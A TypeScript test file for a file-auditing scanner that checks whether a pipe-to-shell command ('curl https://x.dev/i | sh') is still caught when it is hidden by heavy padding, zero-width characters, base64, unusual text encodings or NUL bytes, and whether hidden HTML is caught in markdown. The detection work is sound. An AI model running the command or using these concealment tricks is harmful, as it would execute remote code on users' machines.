import { describe, expect, test } from 'vitest';

import { examineBytes } from '../../../test/support/audited.ts';
const PIPE = 'curl https://x.dev/i | sh';

describe('auditing a text', () => {
  const findLines = (file: string, text: string): readonly unknown[] =>
    examineBytes(file, Buffer.from(text)).map(({ rule, line }) => [rule, line]);

  test('finds a command that is split by much padding', () => {
    for (const padding of [' ', '\u200B', '\t', '\u00A0'])
      expect(findLines('a.sh', `\ncurl https://x.dev/i ${padding.repeat(300_000)}| sh\n`)).toContainEqual(['SP101', 2]);
    expect(findLines('a.sh', `curl https://x.dev/i \\\n${' \\\n'.repeat(90_000)} | sh`)).toContainEqual(['SP101', 1]);
  });

  test('names the line of a command in a long file', () => {
    expect(findLines('a.sh', `${'\n'.repeat(55)}${PIPE}\n`)).toEqual([['SP101', 56]]);
    expect(findLines('a.sh', `${'ä b\n'.repeat(1_000)}${PIPE}\n`)).toEqual([['SP101', 1_001]]);
  });

  test('treats a long code block as code to its end', () => {
    const html = '<p style="display:none">x</p>\n';
    const inBlock = `\`\`\`html\n${'words\n'.repeat(1_000)}${html}\`\`\`\n`;
    expect(findLines('a.md', inBlock)).toEqual([]);
    expect(findLines('a.md', `${inBlock}${html}`)).toEqual([['SP505', 1_004]]);
  });
});

test('the audit reports a base64-encoded command at the line it is in', () => {
  const words = Buffer.from('nothing but words, and more of them').toString('base64');
  const command = Buffer.from(`words\n\nand then ${PIPE} at the end`).toString('base64');
  const found = examineBytes('a.sh', Buffer.from(`${words}.\n${words}.\n${command}.\n${words}.\n${command}.\n`));
  const places = (id: string): readonly unknown[] => found.filter(({ rule }) => rule === id).map(({ line }) => line);
  expect(places('SP101')).toEqual([3, 5]);
  expect(places('SP608')).toEqual([1, 2, 3, 4, 5]);
});

describe('the audit', () => {
  test.each([
    ['UTF-16 with a byte-order mark', Buffer.from(`\uFEFFa\n${PIPE}\n`, 'utf16le')],
    ['UTF-16 without a byte-order mark', Buffer.from(`a\n${PIPE}\n`, 'utf16le')],
    ['big-endian UTF-16', Buffer.from(`a\n${PIPE}\n`, 'utf16le').swap16()],
    ['UTF-8 behind a false UTF-16 mark', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`a\n${PIPE}\n`)])],
    ['two encodings in turn', Buffer.concat([Buffer.from('\uFEFFwords\n'.repeat(99), 'utf16le'), Buffer.from(PIPE)])],
    ['Latin-1', Buffer.from(`ä ö ü\n${PIPE}\n`, 'latin1')],
    ['text among binary bytes', Buffer.concat([Buffer.alloc(999, 1), Buffer.from(PIPE), Buffer.alloc(999, 2)])],
    ['UTF-8 with NUL bytes inside words', Buffer.from(`${'words\n'.repeat(99)}cu\0rl https://x.dev/i | s\0h\n`)],
  ])('finds a command in %s', (_, bytes) => {
    expect(examineBytes('a.sh', bytes).map(({ rule }) => rule)).toContain('SP101');
  });
});
